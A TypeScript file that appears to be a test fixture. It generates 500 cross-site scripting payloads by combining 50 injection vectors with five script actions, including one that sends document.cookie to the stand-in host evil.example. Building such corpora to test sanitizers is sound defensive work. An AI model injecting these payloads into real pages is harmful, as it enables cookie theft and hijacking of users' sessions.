// 500 texts that run a script or call out where a page takes them for more than text: each way in, with
// each thing that it may do, in several spellings. Made here, so that the list can be read at a glance.

const acts = [
  "window.hit=1",
  "alert(1)",
  "fetch('http://evil.example/'+document.cookie)",
  "location='http://evil.example'",
  "new Image().src='http://evil.example'",
];

/** `ACT` is what it does. */
const ways = [
  "<script>ACT</script>",
  "<ScRiPt >ACT</sCrIpT >",
  "<script/x>ACT</script>",
  '"><script>ACT</script>',
  "'><script>ACT</script>",
  "</textarea><script>ACT</script>",
  "</pre><script>ACT</script>",
  "</title><script>ACT</script>",
  "<!--><script>ACT</script>-->",
  "<![CDATA[<script>ACT</script>]]>",
  '<img src=x onerror="ACT">',
  "<img src=x onerror=ACT>",
  '<img src="x" onerror\n=\n"ACT">',
  '<img/src="x"/onerror="ACT">',
  '<svg onload="ACT">',
  "<svg><script>ACT</script></svg>",
  '<svg><animate onbegin="ACT" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ACT"><text y=20>x</text></a></svg>',
  "<math><mtext></mtext><script>ACT</script></math>",
  '<body onload="ACT">',
  '<body onpageshow="ACT">',
  '<iframe src="javascript:ACT"></iframe>',
  '<iframe srcdoc="<script>ACT</script>"></iframe>',
  '<object data="javascript:ACT"></object>',
  '<embed src="javascript:ACT">',
  '<a href="javascript:ACT">x</a>',
  '<a href="JaVaScRiPt:ACT">x</a>',
  '<a href="java\tscript:ACT">x</a>',
  '<a href="&#106;avascript:ACT">x</a>',
  "[x](javascript:ACT)",
  "![x](http://evil.example/x.png 'ACT')",
  '<form action="javascript:ACT"><button autofocus>x</button></form>',
  '<button formaction="javascript:ACT">x</button>',
  '<input autofocus onfocus="ACT">',
  '<select autofocus onfocus="ACT">',
  '<textarea autofocus onfocus="ACT">',
  '<details open ontoggle="ACT">',
  '<video><source onerror="ACT"></video>',
  '<audio src=x onerror="ACT">',
  '<marquee onstart="ACT">x</marquee>',
  '<style>@import "http://evil.example/ACT";</style>',
  '<link rel=stylesheet href="http://evil.example/ACT">',
  '<meta http-equiv=refresh content="0;url=javascript:ACT">',
  '<base href="http://evil.example/ACT/">',
  '<div style="background:url(http://evil.example/ACT)">x</div>',
  '<div onpointerover="ACT" style="position:fixed;inset:0">x</div>',
  "{{ constructor.constructor('ACT')() }}",
  "${ACT}",
  "`-ACT-`",
  "\u2028<script>ACT</script>\u2029",
];

const spellings: readonly ((text: string) => string)[] = [(text) => text, (text) => `"'>${text}<!--`];

export const payloads: readonly string[] = spellings.flatMap((spell) =>
  ways.flatMap((way) => acts.map((act) => spell(way.replaceAll("ACT", () => act)))),
);
